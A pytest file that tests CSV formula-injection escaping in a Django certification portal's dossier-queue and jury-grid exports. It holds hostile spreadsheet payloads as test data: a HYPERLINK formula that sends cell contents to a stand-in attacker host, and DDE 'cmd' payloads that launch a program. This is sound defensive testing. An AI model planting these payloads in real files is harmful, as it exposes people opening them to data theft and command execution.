"""Every CSV the portal hands out is safe to open in a spreadsheet (CSV / formula injection,
OWASP): no cell, header rows included, starts with = + - @, a tab or a carriage return — such a
cell gets a leading apostrophe. One writer does it for every export (``core.csv_export``);
this file checks each export with hostile names, and that no module writes CSV another way."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from core.csv_export import safe_cell
from dossiers.enums import DossierStatus as S
from juries.enums import Attendance, JuryRole, LinkKind
from tests.factories import UserFactory, certifier_of, dossier_in_state
from tests.juries.helpers import choose, four_level_certification, jury_session

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attaquant.example/?x="&A1;"Cliquez")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"cell {cell!r} of row {row!r} would run as a formula"


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1+1", "' =1+1"),  # a spreadsheet may trim the space and read a formula
        ("Dupont", "Dupont"),
        ("Jean-Pierre", "Jean-Pierre"),
        ("a=b", "a=b"),
        (12, "12"),
        (None, ""),
        ("", ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(value, written):
    assert safe_cell(value) == written


def test_the_dossier_queue_export_escapes_candidate_names_and_certification_titles(client):
    cert = four_level_certification(title="+cmd|' /C calc'!A0")
    certifier = certifier_of(cert)
    evil = UserFactory(first_name=FORMULA, last_name="@SOMME(1;2)", email="eve@example.org")
    dossier_in_state(S.FEASIBILITY_SUBMITTED, certification=cert, candidate=evil)
    client.force_login(certifier)

    rows = rows_of(client.get(reverse("backoffice:queue_export")))

    assert_no_formula(rows)
    (row,) = rows[1:]
    assert row[1:3] == ["'@SOMME(1;2)", "'" + FORMULA]
    assert row[5] == "'+cmd|' /C calc'!A0"


def test_the_jury_grid_export_escapes_juror_names_and_bloc_titles_in_its_header_rows(client):
    cert = four_level_certification(blocks=1, competencies=2)
    block = cert.blocks.get()
    block.code, block.title = "-1+1", "+cmd"
    block.save()
    criterion = block.rubric.criteria.order_by("order").first()
    criterion.text = "=cmd|' /C calc'!A0"
    criterion.save()
    level = block.rubric.levels.order_by("order").first()
    level.label = "@niveau"
    level.save()
    session, members, (conv,) = jury_session(cert, roles=(JuryRole.PRESIDENT, JuryRole.PROFESSIONAL))
    president, pro = members
    pro.user.first_name, pro.user.last_name = FORMULA, "Martin"
    pro.user.save()
    from juries import services as deliberation

    for m in members:
        deliberation.declare_link(m, conv, LinkKind.NONE)
    deliberation.record_attendance(conv, president, Attendance.PRESENT)
    for m in members:
        choose(m, conv, block.rubric, [0, 0])
    client.force_login(president.user)

    rows = rows_of(client.get(reverse("jury:grid_export", args=[conv.pk])))

    assert_no_formula(rows)
    header = rows[0]
    assert header[0] == "'-1+1 — +cmd"
    assert "'" + FORMULA + " Martin" in header
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert "'@niveau" in rows[1]


def test_no_module_writes_csv_but_the_safe_writer():
    """A new export must use ``core.csv_export``: no other module calls ``csv.writer``
    or ``csv.DictWriter``."""
    root = Path(settings.BASE_DIR)
    apps = ["vae_portal", "accounts", "audit", "backoffice", "certifications", "documents", "dossiers", "juries"]
    offenders = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if path.name != "csv_export.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []
